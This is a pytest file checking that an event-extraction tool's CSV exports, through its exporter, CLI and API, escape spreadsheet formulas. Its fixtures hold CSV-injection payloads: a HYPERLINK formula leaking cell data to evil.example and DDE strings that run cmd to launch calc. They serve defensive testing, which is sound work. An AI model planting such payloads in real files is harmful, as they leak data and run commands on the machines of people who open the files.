"""CSV exports are safe to open in a spreadsheet (OWASP "CSV Injection"), on every CSV path: the
exporter, ``eventsift export`` and the API's /export endpoints, over articles read by the real pipeline."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from eventsift.cli import app
from eventsift.export.exporters import FORMULA_STARTS, spreadsheet_safe, write_events, write_stories
from eventsift.settings import Options

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXT = ("Troops shelled the village of Kupiansk in Kharkiv Oblast on Sunday, killing two people, "
        "the regional governor said.")


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A database holding one article whose metadata are formulas, read by the real pipeline."""
    from eventsift.store.store import open_store
    from eventsift.workflow import ingest

    folder = tmp_path_factory.mktemp("hostile")
    record = {"id": "formula-1", "text": f"Shelling in Kupiansk\n\n{TEXT}", "title": "+1 shelling",
              "source": HYPERLINK, "url": DDE, "published": "2024-03-12"}
    jsonl = folder / "hostile.jsonl"
    jsonl.write_text(json.dumps(record) + "\n", encoding="utf-8")
    url = f"sqlite:///{folder / 'hostile.db'}"
    with open_store(url) as store:
        summary, _ = ingest([str(jsonl)], store, Options(db=url), jsonl=True)
    assert summary.rejected == 0
    return url


def _event_items(db: str) -> list[dict[str, Any]]:
    from eventsift.serve.api import create_app
    from tests.livesrv import serve_app

    with serve_app(create_app(db)) as base:
        return [json.loads(line) for line in httpx.get(f"{base}/export/events.jsonl", timeout=60).text.splitlines()]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_quoted(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+2") == f"'{start}1+2"
    assert spreadsheet_safe(f"a{start}1") == f"a{start}1"  # only a leading character starts a formula


def test_exporter_escapes_text_and_keeps_negative_numbers(hostile_db: str) -> None:
    items = _event_items(hostile_db)
    assert items, "the article should yield an event"
    for item in items:  # a place in the southern and western hemispheres: negative coordinates
        item["place"] = {**(item.get("place") or {}), "lat": -33.45, "lon": -70.66, "name": "-Santiago"}
    out = io.BytesIO()
    write_events(items, "csv", out)
    rows = _rows(out.getvalue())
    assert rows and all(row["source"] == "'" + HYPERLINK for row in rows)
    assert all(row["url"] == "'" + DDE for row in rows)
    assert all((row["latitude"], row["longitude"]) == ("-33.45", "-70.66") for row in rows)  # numbers stay numbers
    assert all(row["location"] == "'-Santiago" for row in rows)  # text that looks negative is still text
    assert not [cell for row in rows for name, cell in row.items()
                if cell.startswith(FORMULA_STARTS) and name not in ("latitude", "longitude")]


def test_api_csv_exports_are_escaped(hostile_db: str) -> None:
    from eventsift.serve.api import create_app
    from tests.livesrv import serve_app

    with serve_app(create_app(hostile_db)) as base:
        events = httpx.get(f"{base}/export/events.csv", timeout=60)
        stories = httpx.get(f"{base}/export/stories.csv", timeout=60)
    assert events.status_code == 200 and stories.status_code == 200
    rows = _rows(events.content)
    assert rows and {row["source"] for row in rows} == {"'" + HYPERLINK}
    assert HYPERLINK not in events.text.replace("'" + HYPERLINK.replace('"', '""'), "")
    assert not [c for row in _rows(stories.content) for c in row.values() if c.startswith(("=", "@"))]


def test_cli_export_is_escaped(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--output", str(out), "--db", hostile_db])
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_bytes())
    assert rows and all(row["source"] == "'" + HYPERLINK and row["url"] == "'" + DDE for row in rows)


def test_story_csv_escapes_text_cells() -> None:
    story = {"id": "s1", "actor1": {"name": "=cmd|'/C calc'!A0"}, "status": "reported", "events": ["e1"],
             "place": {"name": "+Town", "lat": -1.5, "lon": -2.5}, "fatalities": {"value": 3}}
    out = io.BytesIO()
    write_stories([story], "csv", out)
    row = _rows(out.getvalue())[0]
    assert row["actor1"] == "'=cmd|'/C calc'!A0"
    assert not [cell for name, cell in row.items() if cell.startswith(FORMULA_STARTS)
                and name not in ("latitude", "longitude")]
